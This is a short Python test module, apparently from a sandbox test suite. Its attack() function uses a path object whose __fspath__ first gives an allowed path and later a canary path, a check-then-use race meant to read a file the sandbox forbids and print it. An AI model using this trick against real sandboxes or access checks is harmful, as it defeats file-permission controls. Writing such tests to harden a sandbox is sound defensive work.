"""The same for a file that is read."""
CATEGORY = "races"
REACH = "read"
GRANT = {"write": ["@ROOT@/home"], "read": ["@ROOT@/home"]}

import os

from . import payload

FREE = payload.ROOT + "/home/free"


class Path:
    """Says one thing first, and then another."""

    def __init__(self, *answers):
        self.answers = list(answers)

    def __fspath__(self):
        if len(self.answers) > 1:
            return self.answers.pop(0)
        return self.answers[0]


def attack():
    # However often it is asked before it matters.
    for times in range(4):
        path = Path(*[FREE] * times, payload.CANARY)
        try:
            with open(path) as file:
                os.write(1, file.read().encode())
        except OSError:
            pass
